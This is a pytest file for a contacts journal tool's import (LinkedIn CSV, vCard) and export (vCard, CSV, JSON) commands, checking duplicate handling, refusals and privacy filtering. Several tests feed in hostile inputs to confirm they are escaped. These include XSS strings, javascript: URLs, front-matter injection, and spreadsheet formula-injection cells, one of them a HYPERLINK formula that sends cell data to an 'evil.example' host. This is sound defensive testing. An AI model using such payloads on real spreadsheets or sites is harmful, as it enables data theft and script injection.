"""Contacts in and out: `import vcard|linkedin` and `export vcard|csv|json`, as a user runs them.

Every test works on a journal in `tmp_path`; the fixtures in tests/fixtures/import/ are
written as Google, Apple, Outlook and LinkedIn write their exports.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import date
from pathlib import Path

import pytest
import vobject
from click.testing import CliRunner, Result
from conftest import MINIMAL_MKDOCS, REPO
from hypothesis import given, settings
from hypothesis import strategies as st

from netjournal.cli import importing, main
from netjournal.exchange.filling import filled
from netjournal.exchange.matching import fold_name, plan_import
from netjournal.exchange.people import ImportedContact
from netjournal.exchange.table import spreadsheet_safe
from netjournal.exchange.vcard import birthday, read_vcards, vcards
from netjournal.model import Birthday, Contact
from netjournal.read.journal import read_journal
from netjournal.render import contact_uri, render_site
from netjournal.write.front_matter import Unwritable

FIXTURES = Path(__file__).parent / "fixtures" / "import"
TODAY = "2026-11-23"


@pytest.fixture
def journal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty journal (mkdocs.yml, contacts/, journal/, docs/) as the working folder."""
    for folder in ("contacts", "journal", "docs"):
        (tmp_path / folder).mkdir()
    (tmp_path / "mkdocs.yml").write_text(MINIMAL_MKDOCS, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run(*arguments: str) -> Result:
    return CliRunner().invoke(main, list(arguments))


def export(*arguments: str) -> Result:
    """`netjournal export …`."""
    return CliRunner().invoke(main, ["export", *arguments])


def contacts_of(root: Path) -> dict[str, Contact]:
    """The journal's contacts, failing the test on any problem."""
    result = read_journal(root)
    assert not result.problems, [str(p) for p in result.problems]
    return dict(result.journal.contacts)


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()
    }


def write_connections(path: Path, *rows: str, header: str | None = None) -> Path:
    lines = ["Notes:", '"Some email addresses are missing, see https://www.linkedin.com/x"', ""]
    lines.append(header or "First Name,Last Name,URL,Email Address,Company,Position,Connected On")
    path.write_text("\r\n".join([*lines, *rows]) + "\r\n", encoding="utf-8-sig")
    return path


# Import: LinkedIn


def test_a_linkedin_export_becomes_contacts_found_by_header_with_names_cleaned(journal):
    (journal / "contacts" / "marcus-webb.md").write_text(
        "---\nname: Marcus  WEBB\n---\nMet at the depot.\n", encoding="utf-8"
    )
    before = (journal / "contacts" / "marcus-webb.md").read_bytes()

    result = run("import", "linkedin", str(FIXTURES / "Connections.csv"))

    assert result.exit_code == 0, result.output
    contacts = contacts_of(journal)
    jane = contacts["jane-doe-cpa"]
    assert (jane.name, jane.company, jane.title) == (
        "Jane Doe, CPA",
        "Doe Accounting",
        "Owner, Principal",
    )
    assert jane.emails == ("jane@doe-accounting.example.com",)
    assert jane.urls == ("https://www.linkedin.com/in/jane-doe-cpa",)
    assert (jane.met, jane.tags, jane.source) == (date(2025, 12, 7), ("linkedin",), None)
    assert contacts["priya-raman"].name == "Priya Raman"  # the rocket is gone
    assert contacts["priya-raman"].company == "Raman Growth Partners, LLC"
    assert contacts["priya-raman"].emails == ()  # LinkedIn withheld it
    assert contacts["anders-orsted"].name == "Anders Ørsted"
    assert contacts["dmitrii-kuznetsov"].name == "Дмитрий Кузнецов"
    assert contacts["li-wei"].name == "李伟"  # family name first, as written in Chinese
    assert contacts["tomas-o-brien"].title == 'Consultant @ "Big Four"'
    # Marcus was already there (same name, case and spacing aside): his file is untouched,
    # and Jane's second row is the same person as her first
    assert (journal / "contacts" / "marcus-webb.md").read_bytes() == before
    assert len(contacts) == 7
    assert "Connections.csv:10: skipped Marcus Webb: already in the journal as " in result.output
    assert "contacts/marcus-webb.md (same name)" in result.output
    assert "Connections.csv:11: skipped Jane Doe, CPA: the same person as line 5" in result.output
    assert "created 6 contacts, skipped 2" in result.output


def test_importing_the_same_file_again_creates_nothing_and_changes_nothing(journal):
    assert run("import", "linkedin", str(FIXTURES / "Connections.csv")).exit_code == 0
    assert run("import", "vcard", str(FIXTURES / "google.vcf")).exit_code == 0
    before = snapshot(journal)

    again = run("import", "linkedin", str(FIXTURES / "Connections.csv"))
    google = run("import", "vcard", str(FIXTURES / "google.vcf"))

    assert "created 0 contacts, skipped 8" in again.output
    assert "created 0 contacts, skipped 3" in google.output
    assert snapshot(journal) == before


def test_a_dry_run_says_what_would_happen_and_writes_nothing(journal):
    (journal / "contacts" / "marcus-webb.md").write_text("---\nname: Marcus Webb\n---\n")
    before = snapshot(journal)

    result = run("import", "linkedin", "--dry-run", str(FIXTURES / "Connections.csv"))

    assert result.exit_code == 0
    assert snapshot(journal) == before
    assert "would create contacts/jane-doe-cpa.md (Jane Doe, CPA)" in result.output
    assert "skipped Marcus Webb: already in the journal" in result.output
    assert "would create 6 contacts, skipped 2 (dry run: nothing written)" in result.output


def test_a_name_taken_by_another_file_gets_the_next_free_slug(journal):
    # jane-doe.md cannot even be read: its slug is still taken
    (journal / "contacts" / "jane-doe.md").write_text("---\nname: [broken\n---\n")
    connections = write_connections(journal / "c.csv", "Jane,Doe,,jane@new.example.com,,,")

    result = run("import", "linkedin", str(connections))

    assert result.exit_code == 0, result.output
    assert (journal / "contacts" / "jane-doe.md").read_text() == "---\nname: [broken\n---\n"
    assert "created contacts/jane-doe-2.md (Jane Doe)" in result.output
    assert "Warning: the journal has 1 error" in result.output


MARCUS = (
    "---\r\n"
    "name: Marcus Webb  # met at the depot\r\n"
    "tags: [client]\r\n"
    "company:\r\n"
    "---\r\n"
    "Notes, with *Markdown*  \r\nand a hard break.\r\n"
)


def test_fill_missing_adds_only_absent_keys_and_keeps_every_byte(journal):
    marcus = journal / "contacts" / "marcus-webb.md"
    marcus.write_bytes(MARCUS.encode())
    connections = write_connections(
        journal / "c.csv",
        "Marcus,Webb,https://www.linkedin.com/in/marcuswebb,,Webb Ltd,Ops Director,22 Jan 2026",
        "Marcus,Webb,,marcus@webb.example.com,,,",
    )

    dry = run("import", "linkedin", "--fill-missing", "--dry-run", str(connections))
    assert marcus.read_bytes() == MARCUS.encode()
    assert "would fill contacts/marcus-webb.md (Marcus Webb): title, email, url, met" in dry.output

    result = run("import", "linkedin", "--fill-missing", str(connections))

    assert result.exit_code == 0, result.output
    assert "filled contacts/marcus-webb.md (Marcus Webb): title, email, url, met" in result.output
    assert "created 0 contacts, skipped 2, filled 1" in result.output
    text = marcus.read_bytes().decode()
    lines = MARCUS.split("\r\n")
    assert text.startswith("\r\n".join(lines[:4]) + "\r\n")  # the keys that were there
    assert text.endswith("\r\n".join(lines[4:]))  # the fence and the notes
    [webb] = contacts_of(journal).values()
    assert (webb.tags, webb.company) == (("client",), None)  # present, even empty: kept
    assert webb.title == "Ops Director"
    assert webb.emails == ("marcus@webb.example.com",)
    assert webb.urls == ("https://www.linkedin.com/in/marcuswebb",)
    assert webb.met == date(2026, 1, 22)
    assert webb.body == "Notes, with *Markdown*  \nand a hard break."

    again = run("import", "linkedin", "--fill-missing", str(connections))
    assert "created 0 contacts, skipped 2, filled 0" in again.output
    assert marcus.read_bytes().decode() == text


def test_without_fill_missing_a_known_contact_is_never_changed(journal):
    marcus = journal / "contacts" / "marcus-webb.md"
    marcus.write_bytes(MARCUS.encode())
    connections = write_connections(journal / "c.csv", "Marcus,Webb,,m@webb.example.com,,,")

    result = run("import", "linkedin", str(connections))

    assert "skipped Marcus Webb: already in the journal as contacts/marcus-webb.md" in result.output
    assert marcus.read_bytes() == MARCUS.encode()


# Import: vCards


def test_google_vcards_import_with_birthdays_urls_and_groups(journal):
    result = run("import", "vcard", str(FIXTURES / "google.vcf"))

    assert result.exit_code == 0, result.output
    contacts = contacts_of(journal)
    ivanov = contacts["dmitrii-ivanov"]
    assert ivanov.company == "Ivanov Construction"
    assert ivanov.title == "Site manager"
    assert ivanov.emails == ("dmitrii@ivanov-build.example.ru", "d.ivanov@example.com")
    assert ivanov.phones == ("+7 912 345-67-89",)
    assert ivanov.urls == ("https://ivanov-build.example.ru",)  # Google's `https\://`
    assert ivanov.birthday == Birthday(2, 29, 1980)
    assert ivanov.tags == ("Builders",)  # not Google's own "myContacts"
    assert ivanov.body == (
        "Met at the chamber lunch. Wants a bookkeeper who speaks Russian.\nCall after the 15th."
    )
    assert contacts["dmitrii-sokolov"].birthday == Birthday(4, 12)  # `--0412`
    assert contacts["dmitrii-sokolov"].tags == ()  # "starred" says nothing about him
    assert contacts["li-wei"].name == "李伟"
    assert contacts["li-wei"].company == "北京贸易有限公司"


def test_apple_vcards_import_with_item_groups_and_the_1604_birthday(journal):
    result = run("import", "vcard", str(FIXTURES / "apple.vcf"))

    assert result.exit_code == 0, result.output
    contacts = contacts_of(journal)
    anders = contacts["anders-orsted"]
    assert anders.name == "Anders Ørsted"
    assert anders.company == "Ørsted Wind A/S"
    assert anders.emails == ("anders@orsted-wind.example.dk", "a.orsted@example.com")
    assert anders.urls == ("https://orsted-wind.example.dk",)
    assert anders.location == "København"
    assert anders.birthday == Birthday(4, 12)  # 1604 with X-APPLE-OMIT-YEAR: year unknown
    assert anders.body.endswith("Ask about the fishing trip.")  # a folded line, unfolded
    yuki = contacts["dr-yuki-nakamura"]
    assert (yuki.name, yuki.phones) == ("Dr. Yuki Nakamura", ("(555) 014-2233",))
    assert yuki.birthday == Birthday(11, 3, 1979)


def test_outlook_vcards_import_quoted_printable_with_soft_line_breaks(journal):
    result = run("import", "vcard", str(FIXTURES / "outlook.vcf"))

    assert result.exit_code == 0, result.output
    amelie = contacts_of(journal)["amelie-lefevre"]
    assert amelie.name == "Amélie Lefèvre"
    assert amelie.title == "Directrice générale"
    assert amelie.company == "Atelier Lefevre"  # ORG's department left out
    assert amelie.phones == ("+33 1 23 45 67 89", "+33 6 12 34 56 78")
    assert amelie.emails == ("amelie@atelier-lefevre.example.fr",)
    assert amelie.birthday == Birthday(4, 12, 1975)  # `19750412`
    assert amelie.location == "Lyon"
    # the comma Outlook never escapes, the soft break inside "qui", the CRLF as a new line
    assert amelie.body == (
        "Rencontrée au salon des artisans, stand 14. Cherche un comptable qui parle "
        "français.\nA rappeler en janvier."
    )


def test_one_card_that_cannot_be_read_is_reported_and_the_others_imported(journal):
    cards = journal / "mixed.vcf"
    cards.write_text(
        "BEGIN:VCARD\nVERSION:3.0\nEMAIL:nobody@example.com\nEND:VCARD\n"
        "BEGIN:VCARD\nVERSION:3.0\nFN:Bea Ruiz\nBDAY:2001-02-30\nEND:VCARD\n"
        "BEGIN:VCARD\nVERSION:3.0\nFN:Kim Ode\nEND:VCARD\n"
        "BEGIN:VCARD\nVERSION:3.0\nN:Park;Min;;;\n",
        encoding="utf-8",
    )

    result = run("import", "vcard", str(cards))

    assert result.exit_code == 0
    assert "mixed.vcf:1: skipped: this card has no name (FN or N)" in result.output
    assert "mixed.vcf:5: imported Bea Ruiz without birthday: " in result.output
    assert "2001-02-30" in result.output
    assert "mixed.vcf:14: skipped: this card has no END:VCARD line" in result.output
    contacts = contacts_of(journal)
    assert list(contacts) == ["bea-ruiz", "kim-ode"]
    assert contacts["bea-ruiz"].birthday is None


def test_a_card_without_fn_is_named_from_n_and_a_windows_file_is_read(journal):
    cards = journal / "old.vcf"
    cards.write_bytes(
        "BEGIN:VCARD\r\nVERSION:2.1\r\nN:Müller;Jürgen;;Dr.;\r\nEND:VCARD\r\n".encode("cp1252")
    )

    result = run("import", "vcard", str(cards))

    assert result.exit_code == 0, result.output
    assert contacts_of(journal)["dr-jurgen-muller"].name == "Dr. Jürgen Müller"


# Import: hostile text


HOSTILE = {
    "first": "<script>alert(1)</script>",
    "last": "[Doe](javascript:alert(1))",
    "company": "a | b --- c: d",
    "title": "{role: admin}",
}


def test_hostile_text_round_trips_as_text_and_is_shown_escaped(journal):
    connections = write_connections(
        journal / "c.csv",
        f'"{HOSTILE["first"]}","{HOSTILE["last"]}",,,"{HOSTILE["company"]}","{HOSTILE["title"]}",'
        ",content: x,handler: y",
        "---,name: Eve,,,,,",
        header="First Name,Last Name,URL,Email Address,Company,Position,Connected On,"
        "content,handler",
    )
    cards = journal / "h.vcf"
    cards.write_text(
        "BEGIN:VCARD\nVERSION:3.0\nFN:Note Person\n"
        "NOTE:---\\nname: Evil\\nprivate: true\\n---\\n<script>alert(2)</script> | [x](y)\n"
        "END:VCARD\n",
        encoding="utf-8",
    )

    assert run("import", "linkedin", str(connections)).exit_code == 0
    assert run("import", "vcard", str(cards)).exit_code == 0

    contacts = contacts_of(journal)
    [hostile] = [c for c in contacts.values() if c.name.startswith("<script>")]
    assert hostile.name == f"{HOSTILE['first']} {HOSTILE['last']}"
    assert (hostile.company, hostile.title) == (HOSTILE["company"], HOSTILE["title"])
    assert contacts["name-eve"].name == "--- name: Eve"
    note = contacts["note-person"]
    assert not note.private
    assert note.body == "---\nname: Evil\nprivate: true\n---\n<script>alert(2)</script> | [x](y)"
    page = render_site(read_journal(journal).journal, date(2026, 11, 23))[contact_uri(hostile.slug)]
    body = page.split("\n---\n", 1)[1]  # after the page's title, which MkDocs shows as text
    assert "# &lt;script&gt;alert\\(1\\)&lt;/script&gt; \\[Doe\\]\\(javascript:" in body
    assert "a \\| b" in body
    assert "<script>" not in page


def test_a_value_the_reader_would_refuse_is_left_out_and_the_person_imported(journal):
    connections = write_connections(
        journal / "c.csv",
        "Ann,Long,,,Long Ltd,{},".format("x" * 1200),
        "Bo,Date,,bo@date.example.com,,,29 Feb 2023",
        "Cy,Fine,,,,,01 Mar 2025",
        "{},Name,,,,,".format("y" * 1200),
    )
    cards = journal / "old.vcf"
    cards.write_text(
        "BEGIN:VCARD\nVERSION:3.0\nFN:Old Timer\nBDAY:circa 1800\nTEL:555 0100\n"
        "NOTE:<div>never closed\nEND:VCARD\n",
        encoding="utf-8",
    )

    result = run("import", "linkedin", str(connections))
    from_cards = run("import", "vcard", str(cards))

    assert result.exit_code == from_cards.exit_code == 0, result.output + from_cards.output
    assert "c.csv:5: imported Ann Long without title: the text is 1,200 characters" in (
        result.output
    )
    assert "c.csv:6: imported Bo Date without met: '29 Feb 2023' is not a date" in result.output
    assert "c.csv:8: skipped " in result.output  # a name that cannot be written: no one to keep
    assert "cannot be written: name: the text is 1,205 characters" in result.output
    assert "created 3 contacts, skipped 1" in result.output
    assert "old.vcf:1: imported Old Timer without birthday: birthday 'circa 1800'" in (
        from_cards.output
    )
    assert "old.vcf:1: imported Old Timer without notes: <div> is never closed" in (
        from_cards.output
    )
    contacts = contacts_of(journal)
    assert sorted(contacts) == ["ann-long", "bo-date", "cy-fine", "old-timer"]
    assert (contacts["ann-long"].company, contacts["ann-long"].title) == ("Long Ltd", None)
    assert (contacts["bo-date"].emails, contacts["bo-date"].met) == (("bo@date.example.com",), None)
    assert contacts["bo-date"].tags == ("linkedin",)
    assert contacts["cy-fine"].met == date(2025, 3, 1)
    old = contacts["old-timer"]
    assert (old.phones, old.birthday, old.body) == (("555 0100",), None, "")


def test_only_web_addresses_are_imported_and_a_bare_profile_gets_https(journal):
    cards = journal / "urls.vcf"
    cards.write_text(
        "BEGIN:VCARD\nVERSION:3.0\nFN:Mal Icious\nURL:javascript:alert(1)\n"
        "URL:data:text/html,<script>alert(2)</script>\nURL:HTTPS://ok.example/mal\n"
        "URL:ftp://files.example\nEND:VCARD\n",
        encoding="utf-8",
    )
    connections = write_connections(
        journal / "c.csv",
        "Bare,Profile,linkedin.com/in/bare-profile,,,,",
        "Js,Only,javascript:x,,,,",
    )

    result = run("import", "vcard", str(cards))
    linked = run("import", "linkedin", str(connections))

    assert result.exit_code == linked.exit_code == 0, result.output + linked.output
    assert "urls.vcf:1: imported Mal Icious without url: 'javascript:alert(1)' is not a web" in (
        result.output
    )
    assert "without url: 'data:text/html,<script>alert(2)</script>' is not a web" in result.output
    assert "without url: 'ftp://files.example' is not a web" in result.output
    assert "c.csv:6: imported Js Only without url: 'javascript:x'" in linked.output
    contacts = contacts_of(journal)
    assert contacts["mal-icious"].urls == ("HTTPS://ok.example/mal",)
    assert contacts["bare-profile"].urls == ("https://linkedin.com/in/bare-profile",)
    assert contacts["js-only"].urls == ()


# Import: namesakes


def test_namesakes_with_another_profile_or_email_are_other_people(journal):
    (journal / "contacts" / "john-smith.md").write_text(
        "---\nname: John Smith\nemail: john@acme.example.com\n"
        "url: https://www.linkedin.com/in/john-smith-acme\n---\n",
        encoding="utf-8",
    )
    connections = write_connections(
        journal / "c.csv",
        "John,Smith,https://www.linkedin.com/in/jsmith-globex,js@globex.example.com,Globex,,",
        'John,"Smith, CPA",https://www.linkedin.com/in/john-smith-cpa,,,,',
        "Dr. John,Smith,,,,,",  # nothing says which of the three John Smiths he is
        "John,Smith,https://linkedin.com/in/jsmith-globex/,,,,",  # line 5's profile
        "John,Smith,,john@acme.example.com,Other Co,,",  # the journal's John's email
    )
    before = (journal / "contacts" / "john-smith.md").read_bytes()

    result = run("import", "linkedin", str(connections))

    assert result.exit_code == 0, result.output
    assert (
        "created John Smith (contacts/john-smith-2.md): a namesake of contacts/john-smith.md, "
        "with another profile and email"
    ) in result.output
    assert (
        "created John Smith, CPA (contacts/john-smith-cpa.md): a namesake of "
        "contacts/john-smith.md, with another profile"
    ) in result.output
    assert (
        "c.csv:7: skipped Dr. John Smith: the same name as contacts/john-smith.md and "
        "contacts/john-smith-2.md and contacts/john-smith-cpa.md, and nothing tells which one"
    ) in result.output
    assert "c.csv:8: skipped John Smith: the same person as line 5 of this file (same URL" in (
        result.output
    )
    assert "c.csv:9: skipped John Smith: already in the journal as contacts/john-smith.md " in (
        result.output
    )
    assert "created 2 contacts, skipped 3" in result.output
    contacts = contacts_of(journal)
    assert contacts["john-smith-2"].company == "Globex"
    assert contacts["john-smith-cpa"].urls == ("https://www.linkedin.com/in/john-smith-cpa",)
    assert (journal / "contacts" / "john-smith.md").read_bytes() == before


# Import: refusals


def test_a_namesake_nothing_tells_apart_from_two_contacts_fills_neither(journal):
    for slug, url in (("john-smith", "john-smith-acme"), ("john-smith-2", "john-smith-globex")):
        (journal / "contacts" / f"{slug}.md").write_text(
            f"---\nname: John Smith\nurl: https://www.linkedin.com/in/{url}\n---\n",
            encoding="utf-8",
        )
    before = snapshot(journal)
    card = journal / "js.vcf"
    card.write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:John Smith\r\nEMAIL:john3@example.com\r\nEND:VCARD\r\n",
        encoding="utf-8",
    )
    result = run("import", "vcard", str(card), "--fill-missing")
    assert result.exit_code == 0, result.output
    assert (
        "skipped John Smith: the same name as contacts/john-smith.md and "
        "contacts/john-smith-2.md, and nothing tells which one: none is changed"
    ) in result.output
    assert "filled" not in result.output.replace("filled 0", "")
    assert (
        snapshot(journal) == {**before, "js.vcf": card.read_bytes()} or snapshot(journal) == before
    )


def test_import_refusals_are_sentences(journal):
    not_linkedin = journal / "other.csv"
    not_linkedin.write_text("Name,Phone\nJane,123\n", encoding="utf-8")
    result = run("import", "linkedin", str(not_linkedin))
    assert result.exit_code == 1
    assert "no header row 'First Name,Last Name,URL" in result.output
    assert "is this LinkedIn's Connections.csv?" in result.output

    missing = run("import", "vcard", "nowhere.vcf")
    assert missing.exit_code == 2
    assert "'nowhere.vcf' does not exist" in missing.output

    folder = run("import", "vcard", str(journal / "contacts"))
    assert folder.exit_code == 2
    assert "is a directory" in folder.output

    binary = journal / "photo.vcf"
    binary.write_bytes(b"\x81\x8d\x8f\x90\x9d")  # undefined in Windows-1252 and not UTF-8
    unreadable = run("import", "vcard", str(binary))
    assert unreadable.exit_code == 1
    assert "neither UTF-8 nor Windows text" in unreadable.output

    for name, data in (
        ("list.csv", b"Name,Email\r\nAda,ada@example.com\r\n"),
        ("picture.vcf", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
        ("empty.vcf", b""),
    ):
        (journal / name).write_bytes(data)
        not_cards = run("import", "vcard", str(journal / name))
        assert not_cards.exit_code == 1, not_cards.output
        assert f"{name}: no BEGIN:VCARD line: is this a vCard file (.vcf)?" in not_cards.output
        assert "created" not in not_cards.output

    no_config = run("import", "vcard", "-f", "nothere.yml", str(FIXTURES / "google.vcf"))
    assert no_config.exit_code == 1
    assert "nothere.yml not found" in no_config.output
    assert snapshot(journal / "contacts") == {}


# Matching and parsing, pure


def test_names_are_one_person_whatever_their_case_accents_spacing_and_credentials():
    assert fold_name("Jane Doe, CPA") == fold_name("🚀 JANE  DOE") == fold_name("Jáne Doe")
    assert fold_name("Maria Chen, CPA") == fold_name("Dr. Maria Chen") == "maria chen"
    assert fold_name("Prof. Dr. Maria Chen") == fold_name("MRS MARIA CHEN") == "maria chen"
    assert fold_name("Mx Maria Chen") == fold_name("ms. maria chen") == "maria chen"
    assert fold_name("Drew Chen") == "drew chen"  # a name that starts like one is kept
    assert fold_name("Dr.") == "dr"  # an honorific alone is all the name there is
    assert fold_name("Anders Ørsted") == "anders orsted"
    assert fold_name("Jane Doe") != fold_name("Jane Dow")


def test_two_rows_of_one_import_for_one_person_make_one_contact():
    people = [
        ImportedContact(2, {"name": "Jane Doe", "email": ["Jane@Example.com"]}),
        ImportedContact(3, {"name": "J. Doe", "email": ["jane@example.COM"]}),
        ImportedContact(4, {"name": "Jáne  DOE"}),
        ImportedContact(5, {"name": "Kim", "url": ["https://www.linkedin.com/in/kim/"]}),
        ImportedContact(6, {"name": "Kim Other", "url": ["http://linkedin.com/in/kim"]}),
    ]
    plan = plan_import(people, (), taken=())
    assert [n.slug for n in plan.new] == ["jane-doe", "kim"]
    assert [(s.person.line, s.reason) for s in plan.skipped] == [
        (3, "the same person as line 2 of this file (same email jane@example.com)"),
        (4, "the same person as line 2 of this file (same name)"),
        (6, "the same person as line 5 of this file (same URL linkedin.com/in/kim)"),
    ]


def test_vcard_birthdays_in_every_form_apps_write():
    assert birthday("1980-02-29") == Birthday(2, 29, 1980)
    assert birthday("19800229") == Birthday(2, 29, 1980)
    assert birthday("--0412") == birthday("--04-12") == Birthday(4, 12)
    assert birthday("1604-04-12", "1604") == Birthday(4, 12)
    assert birthday("0000-04-12") == Birthday(4, 12)
    assert birthday("1980-02-30") == "1980-02-30"  # left for the writer to refuse
    assert read_vcards("BEGIN:VCARD\nFN:A, B; C\nEND:VCARD\n").contacts[0].name == "A, B; C"


# Export


SAMPLE = """\
---
name: Jane Doe
company: Doe & Co
email: jane@example.com
phone: "+1 555 0100"
birthday: "--04-12"
cadence: 2w
tags: [client]
---
Jane's notes.
"""
SECRET = """\
---
name: Zed Quill
email: zed@secret.example.com
phone: "+44 20 7946 0958"
private: true
---
Zed's notes.
"""
ENTRY = """\
---
date: 2026-11-01
kind: call
with: [jane-doe]
follow_ups:
  - {what: Send the proposal, due: 2026-11-10, who: jane-doe}
---
"""


@pytest.fixture
def exported(journal: Path) -> Path:
    (journal / "contacts" / "jane-doe.md").write_text(SAMPLE, encoding="utf-8")
    (journal / "contacts" / "zed-quill.md").write_text(SECRET, encoding="utf-8")
    (journal / "journal" / "2026-11-01-call.md").write_text(ENTRY, encoding="utf-8")
    return journal


def test_csv_and_json_give_fields_and_facts_of_each_contact(exported):
    as_json = export("json", "--today", TODAY)
    as_csv = export("csv", "--today", TODAY)

    assert as_json.exit_code == as_csv.exit_code == 0, as_json.output + as_csv.output
    [jane, zed] = json.loads(as_json.output)
    assert jane["name"] == "Jane Doe"
    assert jane["email"] == ["jane@example.com"]
    assert jane["birthday"] == "--04-12"
    assert (jane["touches"], jane["last_touch"], jane["days_since_last_touch"]) == (
        1,
        "2026-11-01",
        22,
    )
    assert jane["next_touch_due"] == "2026-11-15"  # two weeks after the call
    assert (jane["next_follow_up"], jane["next_follow_up_due"]) == (
        "Send the proposal",
        "2026-11-10",
    )
    assert jane["notes"] == "Jane's notes."
    assert (zed["name"], zed["private"], zed["touches"], zed["last_touch"]) == (
        "Zed Quill",
        True,
        0,
        None,
    )
    rows = list(csv.DictReader(io.StringIO(as_csv.output)))
    assert [r["name"] for r in rows] == ["Jane Doe", "Zed Quill"]
    assert rows[0]["last_touch"] == "2026-11-01"
    assert rows[0]["phone"] == "'+1 555 0100"  # starts like a formula: neutralised
    assert rows[0]["touches"] == "1"


def test_vcard_export_parses_back_with_vobject(exported):
    result = export("vcard", "--today", TODAY)

    assert result.exit_code == 0, result.output
    cards = list(vobject.readComponents(result.output))
    assert [c.fn.value for c in cards] == ["Jane Doe", "Zed Quill"]
    jane = cards[0]
    assert jane.version.value == "3.0"
    assert jane.bday.value == "--0412"  # the year is unknown
    assert jane.org.value == ["Doe & Co"]
    assert jane.email.value == "jane@example.com"
    assert jane.categories.value == ["client"]
    assert jane.note.value == "Jane's notes."


@pytest.mark.parametrize("kind", ["vcard", "csv", "json"])
def test_a_public_export_leaks_no_private_contact_nor_private_field(exported, kind):
    result = export(kind, "--public", "--today", TODAY)

    assert result.exit_code == 0, result.output
    assert "Jane Doe" in result.output
    for secret in ("Zed", "Quill", "zed-quill", "secret.example.com", "7946", "Zed's notes"):
        assert secret not in result.output
    # email, phone, birthday and notes are private fields unless public_fields lists them
    for private_field in ("jane@example.com", "555 0100", "0412", "04-12", "Jane's notes"):
        assert private_field not in result.output


def test_csv_cells_that_start_like_formulas_are_neutralised(journal):
    (journal / "contacts" / "x.md").write_text(
        "---\nname: '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")'\ncompany: '+cmd|calc'\n"
        "title: '@SUM(A1:A9)'\nlocation: '-2+3'\ntags: [\"\\t=1+1\", ok]\n---\n",
        encoding="utf-8",
    )

    result = export("csv")
    as_json = export("json")

    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["company"] == "'+cmd|calc"
    assert row["title"] == "'@SUM(A1:A9)"
    assert row["location"] == "'-2+3"
    assert row["slug"] == "x"
    assert json.loads(as_json.output)[0]["company"] == "+cmd|calc"  # JSON is for scripts
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1") == f"'{start}1"
    assert spreadsheet_safe("1=1") == "1=1"


def test_export_to_a_file_replaces_it_whole(exported):
    target = exported / "out" / "contacts.json"
    target.parent.mkdir()
    target.write_text("[]\n", encoding="utf-8")  # an earlier export, of an empty journal

    result = export("json", "-o", str(target), "--today", TODAY)

    assert result.exit_code == 0, result.output
    assert len(json.loads(target.read_text(encoding="utf-8"))) == 2
    assert "Wrote 2 contacts to" in result.output
    assert sorted(p.name for p in target.parent.iterdir()) == ["contacts.json"]
    again = export("json", "-o", str(target), "--today", TODAY)  # its own export: replaced
    assert again.exit_code == 0, again.output


@pytest.mark.parametrize("kind", ["vcard", "csv", "json"])
def test_export_never_replaces_a_file_it_did_not_write(exported, kind):
    theirs = exported / "mkdocs.yml"
    before = theirs.read_bytes()
    mine = exported / f"mine.{kind}"
    mine.write_text("Name,Phone\r\nAda,123\r\n", encoding="utf-8")  # someone's own list

    for target in (theirs, mine):
        result = export(kind, "-o", str(target), "--today", TODAY)
        assert result.exit_code == 2
        assert "is not an earlier export of this kind: it is left as it is" in result.output
    assert theirs.read_bytes() == before
    assert mine.read_bytes() == b"Name,Phone\r\nAda,123\r\n"


@pytest.mark.parametrize("site", ["site", "public"])
def test_an_export_into_a_built_site_is_refused_as_a_public_build_would_publish_it(exported, site):
    """A build keeps files it did not write in its folder: an export there would be public."""
    built = exported / site
    built.mkdir()
    (built / ".netjournal-site").write_text("# netjournal\n", encoding="utf-8")
    result = export("vcard", "-o", f"{site}/all.vcf")
    assert result.exit_code == 2
    assert "a site netjournal builds" in result.output
    assert not (built / "all.vcf").exists()


def test_export_refusals_write_nothing(exported):
    before = snapshot(exported)
    for folder in ("contacts", "journal", "docs"):
        result = export("csv", "-o", f"{folder}/export.csv")
        assert result.exit_code == 2
        assert f"inside the journal's {folder} folder" in result.output
    onto_folder = export("vcard", "-o", "contacts")
    assert onto_folder.exit_code == 2
    assert "contacts is a folder: name a file in it" in onto_folder.output
    nowhere = export("json", "-o", "missing/out.json")
    assert nowhere.exit_code == 2
    assert "the folder missing does not exist" in nowhere.output
    bad_day = export("json", "--today", "2026-02-30")
    assert bad_day.exit_code == 2
    assert "--today" in bad_day.output
    (exported / "contacts" / "odd.md").write_text("---\nname: Odd\nprivat: true\n---\n")
    unclear = export("json", "--public", "-o", "out.json")
    assert unclear.exit_code == 1
    assert "NJ120" in unclear.output
    assert "netjournal check --public lists them" in unclear.output
    (exported / "contacts" / "odd.md").unlink()
    assert snapshot(exported) == before


@pytest.mark.parametrize("kind", ["vcard", "csv", "json"])
def test_an_export_refuses_a_journal_with_errors_instead_of_leaving_contacts_out(exported, kind):
    (exported / "contacts" / "odd.md").write_text("---\nname: Odd\nbirthday: soon\n---\n")
    target = exported / f"out.{kind}"
    before = snapshot(exported)

    printed = export(kind, "--today", TODAY)
    to_file = export(kind, "-o", str(target), "--today", TODAY)

    for result in (printed, to_file):
        assert result.exit_code == 1, result.output
        assert "contacts/odd.md:3:" in result.stderr
        assert "the journal has 1 error (listed above): an export without that file would " in (
            result.stderr
        )
        assert "netjournal check lists them" in result.stderr
        assert result.stdout == ""
    assert "Jane Doe" not in printed.output
    assert snapshot(exported) == before  # no out file


# Round trip


def test_the_sample_journal_round_trips_through_vcard(tmp_path, monkeypatch):
    sample, empty = tmp_path / "sample", tmp_path / "empty"
    for folder in ("contacts", "journal"):
        shutil.copytree(REPO / folder, sample / folder)
        (empty / folder).mkdir(parents=True)
    monkeypatch.chdir(sample)
    cards = tmp_path / "all.vcf"
    assert export("vcard", "-o", str(cards)).exit_code == 0
    monkeypatch.chdir(empty)

    result = run("import", "vcard", str(cards))

    assert result.exit_code == 0, result.output
    original = contacts_of(sample).values()
    imported = {c.name: c for c in contacts_of(empty).values()}
    assert len(imported) == len(original)
